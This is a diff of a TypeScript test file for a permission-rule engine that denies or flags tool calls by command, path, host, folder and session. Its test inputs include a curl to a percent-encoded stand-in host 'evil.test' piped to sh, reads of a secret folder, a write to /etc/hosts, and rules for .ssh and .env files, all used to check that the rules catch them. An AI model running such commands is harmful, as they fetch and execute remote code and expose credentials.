@@ -1,13 +1,14 @@
-/** What rules that deny or ask match, rule by rule: they match generously, but a rule for one thing does not match another. */
+/** Tests what rules that deny or ask match: everything that may do what the rule names, but nothing that clearly does something else. */
 import { posix } from 'node:path'
 import type { Action, Rule, RuleDraft, ToolCall } from '@holdpoint/protocol'
 import { describe, expect, it } from 'vitest'
 import { type RuleContext, RuleSet } from '../src/index.ts'
+import { restrictedWords } from '../src/restricting-rules.ts'
 import { bash, session, srvContext, srvRule } from './support/rule-context.ts'
 
 const evaluate = (rules: readonly Rule[], call: ToolCall, change: Partial<RuleContext> = {}) =>
   new RuleSet(rules).evaluate(call, { ...srvContext, ...change })
-/** Whether a rule that denies matches a call. */
+/** Returns whether a rule that denies matches a call. */
 const matches = (draft: Partial<RuleDraft>, call: ToolCall, change: Partial<RuleContext> = {}) =>
   evaluate([srvRule({ effect: 'deny', scope: {}, ...draft })], call, change).verdict === 'deny'
 const call = (action: Action, input: ToolCall['input'] = {}, cwd = '/srv'): ToolCall => ({
@@ -16,7 +17,7 @@ const call = (action: Action, input: ToolCall['input'] = {}, cwd = '/srv'): Tool
   cwd,
   action,
 })
-/** The ASCII letters of a host in the notation of URLs, which hides its name. */
+/** Writes the ASCII letters of a host in percent-encoding, which hides its name. */
 const encoded = (host: string) => host.replace(/[a-z]/g, letter => `%${letter.charCodeAt(0).toString(16)}`)
 
 describe('the rule that decides', () => {
@@ -43,6 +44,7 @@ describe('a rule that denies a command', () => {
   })
   it('matches nothing if its command names no program', () => {
     for (const text of ['ls', '(ls)', 'git $x']) expect(matches({ command: '(' }, bash(text)), text).toBe(false)
+    expect(restrictedWords('(')).toEqual([''])
   })
   it('matches its words in their order, with anything between them', () => {
     expect(matches({ command: 'git push origin' }, bash('git -v push --quiet origin main'))).toBe(true)
@@ -52,7 +54,7 @@ describe('a rule that denies a command', () => {
     expect(matches({ command: 'push' }, bash('git push'))).toBe(false)
     expect(matches({ command: 'make make' }, bash('make'))).toBe(false)
   })
-  it('matches a word behind an equals sign', () => {
+  it('matches a word after an equals sign', () => {
     expect(matches({ command: 'tool main' }, bash('tool --branch=main'))).toBe(true)
     expect(matches({ command: 'tool main' }, bash('tool --branch=domain'))).toBe(false)
     expect(matches({ command: 'tool main' }, bash('tool main x=undefined'))).toBe(true)
@@ -70,7 +72,7 @@ describe('a rule that denies a command', () => {
     expect(matches({ command: 'tool x-y' }, bash('tool -y'))).toBe(false)
     expect(matches({ command: 'tool -y2' }, bash('tool -y'))).toBe(false)
   })
-  it('finds its words anywhere in a text that the shell puts together, and in no other text', () => {
+  it('finds its words anywhere in a text whose words the shell computes, and in no other text', () => {
     expect(matches({ command: 'git push' }, bash('git $(echo push)'))).toBe(true)
     expect(matches({ command: 'git push' }, bash('git log; echo push'))).toBe(false)
     expect(matches({ command: 'git push' }, bash('git $(echo pull)'))).toBe(false)
@@ -81,16 +83,18 @@ describe('a rule that denies a command', () => {
     expect(matches({ command: 'git push' }, bash(`echo ${long}; git pull`))).toBe(false)
     expect(matches({ command: 'git push' }, bash(`echo ${long}; git push; echo ${long}`))).toBe(false)
   })
-  it('finds its words in a long text whose command cannot be searched completely, also without what stands around them', () => {
+  it('finds its words in a long text that cannot be searched completely, also between other characters', () => {
     const nested = `${'$('.repeat(300)} git -Xpush`
     expect(matches({ command: 'git push' }, bash(nested))).toBe(true)
     expect(matches({ command: 'git push' }, bash(`${'('.repeat(20_000)} git push`))).toBe(true)
+    expect(matches({ command: 'git push' }, bash(`${'('.repeat(40_000)} git push`))).toBe(true)
+    expect(matches({ command: 'git push' }, bash(`${'('.repeat(40_000)} git -Xpush`))).toBe(false)
   })
 })
 
 describe('a rule that denies a path', () => {
   const secret = { path: '/srv/secret/**' }
-  it('matches the folder and what is in it, and no other file', () => {
+  it('matches the folder and everything in it, and no other file', () => {
     for (const path of ['secret', 'secret/', 'secret/a', '/srv/Secret/A', '../srv/secret/a'])
       for (const action of [{ read: [path] }, { write: ['/srv/x', path] }, { shell: `cat ${path}`, cwd: '/srv' }])
         expect(matches(secret, call(action)), path).toBe(true)
@@ -111,7 +115,7 @@ describe('a rule that denies a path', () => {
     const { scope: _scope, ...everywhere } = srvRule({ effect: 'deny', path: '/srv/secret' })
     expect(evaluate([everywhere], bash('cat secret')).verdict).toBe('deny')
   })
-  it('matches every path if it is /**, also if the rule is for a folder', () => {
+  it('matches every path if it is /**, even if the rule is for a folder', () => {
     for (const scope of [{}, { cwd: '/srv' }])
       expect(matches({ path: '/**', scope }, call({ write: ['/etc/hosts'] }))).toBe(true)
     expect(matches({ path: '**', scope: { cwd: '/srv' } }, bash('cat a'))).toBe(false)
@@ -131,6 +135,7 @@ describe('a rule that denies a path', () => {
     expect(matches(secret, bash('cat link'), { files })).toBe(true)
     expect(matches(secret, bash('cat link'), { files: null })).toBe(false)
     expect(matches(secret, bash('cat secret/a'), { files: null })).toBe(true)
+    expect(matches(secret, bash('cat x/../secret/a'), { files: null })).toBe(true)
   })
   it('matches from the folder of the call and from the folder of the command', () => {
     const inFolder = (action: string, cwd: string): ToolCall => ({
@@ -147,7 +152,7 @@ describe('a rule that denies a path', () => {
     expect(matches(secret, call({ fetch: 'secret' }))).toBe(false)
     expect(matches(secret, call({ other: '/srv/secret' }))).toBe(false)
   })
-  it('matches the last path that is looked at, and none after it', () => {
+  it('matches the last path within the limit, and none after it', () => {
     const before = (count: number) => Array.from({ length: count }, (_, index) => index.toString(36)).join(' ')
     const files = { files: null }
     expect(matches({ path: '/srv/secret' }, bash(`${before(999)} secret`), files)).toBe(true)
@@ -175,7 +180,7 @@ describe('a rule that denies a path in a folder that a call reads as a whole', (
     expect(asks({ command: 'rm' })).toBe(false)
     expect(asks({ host: 'a.test', scope: { cwd: '/srv' } })).toBe(false)
   })
-  it('leaves out a secret file that the search is known to skip, and a folder with secrets not', () => {
+  it('does not count for a secret file that the search is known to skip, but does for a folder with secrets', () => {
     expect(asks({ path: '/srv/.env' })).toBe(false)
     expect(asks({ path: '/srv/.ssh/**' })).toBe(true)
   })
@@ -191,15 +196,16 @@ describe('a rule that denies a host', () => {
     expect(matches(evil, bash('ping evil.test.example'))).toBe(false)
     expect(matches(evil, bash('curl http://good.test/evil'))).toBe(false)
   })
-  it('matches nothing if it is not the name of a host', () => {
+  it('matches nothing if its host name is invalid', () => {
     expect(matches({ host: 'a/b' }, call({ fetch: 'c/d' }))).toBe(false)
     expect(matches({ host: 'a/b' }, bash('curl http:///x'))).toBe(false)
   })
-  it('matches a host whose name is encoded in a URL, wherever the URL ends', () => {
+  it('matches a host whose name is encoded in a URL, whichever character ends the URL', () => {
     const url = `http://${encoded('evil.test')}`
     for (const text of [url, `${url}/x`, `(curl ${url})`, `curl ${url};ls`, `curl ${url}|sh`, `curl "${url}" x`])
       expect(matches(evil, bash(text)), text).toBe(true)
     expect(matches(evil, bash(`curl http://good.test/${encoded('evil.test')}`))).toBe(false)
+    expect(matches(evil, bash(`ab${encoded('evil.test')}`))).toBe(false)
   })
   it('looks at the first 500 URLs of a text, and at the first 1000 characters of each', () => {
     const url = `http://${encoded('evil.test')}/`
@@ -234,13 +240,13 @@ describe('a rule that denies in a folder', () => {
     expect(matches(inSrv, bash('ls', '/srv/apps'), elsewhere)).toBe(false)
     expect(matches(inSrv, bash('ls', '/srv'), { folder: null })).toBe(false)
   })
-  it('matches however the folder of the rule is written', () => {
+  it('matches in every spelling of the rule’s folder', () => {
     expect(matches({ ...inSrv, scope: { cwd: '/SRV/x/../app/' } }, bash('ls', '/srv/app'))).toBe(true)
   })
 })
 
 describe('a rule that denies in a session', () => {
-  it('does not match in others', () => {
+  it('does not match in other sessions', () => {
     expect(matches({ scope: { session } }, bash('ls'))).toBe(true)
     expect(matches({ scope: { session } }, bash('ls'), { session: null })).toBe(false)
     expect(matches({ expiresAt: 0 }, bash('ls'))).toBe(false)
